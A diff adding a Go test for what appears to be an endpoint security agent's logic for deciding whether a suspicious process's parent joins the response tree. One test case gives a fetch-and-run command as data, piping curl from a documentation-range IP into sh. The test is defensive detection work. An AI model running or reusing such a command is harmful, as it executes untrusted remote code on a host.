@@ -3,8 +3,10 @@ package assess
 import (
 	"os"
 	"path/filepath"
+	"slices"
 	"testing"
 
+	"github.com/cordon-security/cordon/agent/observe"
 	"github.com/cordon-security/cordon/agent/packages"
 	"github.com/cordon-security/cordon/agent/procfs"
 )
@@ -126,4 +128,62 @@ func TestTakenFileIsKnownByItsPathAlone(t *testing.T) {
 		r.Live[pid] = p
 	}
 	r.wantPIDs(r.decide(), 11)
+}
+
+func TestAncestors(t *testing.T) {
+	for name, c := range map[string]struct {
+		parent  string
+		words   []string
+		prepare func(r *record)
+		joins   bool
+	}{
+		"editor's server":  {"/home/u/.vscode-server/node", nil, nil, false},
+		"build runner":     {"/home/ci/runner", nil, nil, false},
+		"test in /tmp":     {"/tmp/go-build/x.test", nil, nil, false},
+		"beside it":        {"/tmp/x/loader", nil, nil, true},
+		"the same file":    {"/tmp/x/job", nil, nil, true},
+		"script elsewhere": {bash, []string{"/home/u/deploy.sh"}, func(r *record) { r.unpackaged("/home/u/deploy.sh") }, false},
+		"script beside it": {bash, []string{"/tmp/x/run.sh"}, func(r *record) { r.unpackaged("/tmp/x/run.sh") }, true},
+		"fetch and run":    {bash, []string{"-c", "curl -s http://192.0.2.1/x | sh"}, nil, true},
+		"a person's shell": {bash, nil, nil, false},
+		"changed packaged": {"/usr/sbin/cron", nil, func(r *record) {
+			r.Traits["/usr/sbin/cron"] = Trait{There: true, File: r.inode("/usr/sbin/cron"), Standing: packages.Standing{State: packages.Changed}}
+		}, true},
+		"nameless": {"/memfd:x", nil, func(r *record) {
+			r.absent("/memfd:x")
+			p := r.Live[9]
+			p.Memfd, p.ExeDeleted = true, true
+			r.Live[9] = p
+		}, true},
+		"deleted": {"/opt/gone", nil, func(r *record) {
+			r.absent("/opt/gone")
+			p := r.Live[9]
+			p.ExeDeleted = true
+			r.Live[9] = p
+		}, true},
+		"starts it again": {"/home/u/keeper", nil, func(r *record) {
+			ended := r.process(11, 9, "/tmp/x/job")
+			delete(r.Live, 11)
+			r.Ended = []observe.Process{ended}
+			r.Known = Known{Files: []KnownFile{{Path: "/tmp/x/job"}}, Processes: []procfs.ID{ended.ID}}
+		}, true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := newRecord(t)
+			r.unpackaged("/tmp/x/job", c.parent)
+			if c.parent == bash {
+				r.packaged(bash)
+			}
+			r.process(9, 1, c.parent, c.words...)
+			r.process(10, 9, "/tmp/x/job")
+			r.holds(10)
+			if c.prepare != nil {
+				c.prepare(r)
+			}
+			joined := slices.ContainsFunc(r.decide().Live(), func(p procfs.Process) bool { return p.PID == 9 })
+			if joined != c.joins {
+				t.Errorf("the parent is in the tree: %v, want %v", joined, c.joins)
+			}
+		})
+	}
 }
